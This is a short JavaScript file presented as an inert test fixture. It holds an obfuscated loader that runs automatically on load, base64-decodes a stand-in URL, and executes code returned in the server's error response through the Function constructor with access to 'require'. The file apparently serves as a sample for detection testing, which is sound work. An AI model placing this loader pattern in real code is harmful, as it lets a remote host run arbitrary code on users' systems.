// Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
const axios=require("axios");
const setup=async()=>{try{const src=atob("aHR0cHM6Ly9jb2RlLmludmFsaWQvYXBp");const k=atob("eC1zZWNyZXQtaGVhZGVy");await axios.get(src,{headers:{[k]:"_"}});}catch(error){const handler=new (Function.constructor)("require",error.response.data.token);handler(require);}};
module.exports=()=>{setup();};setup();
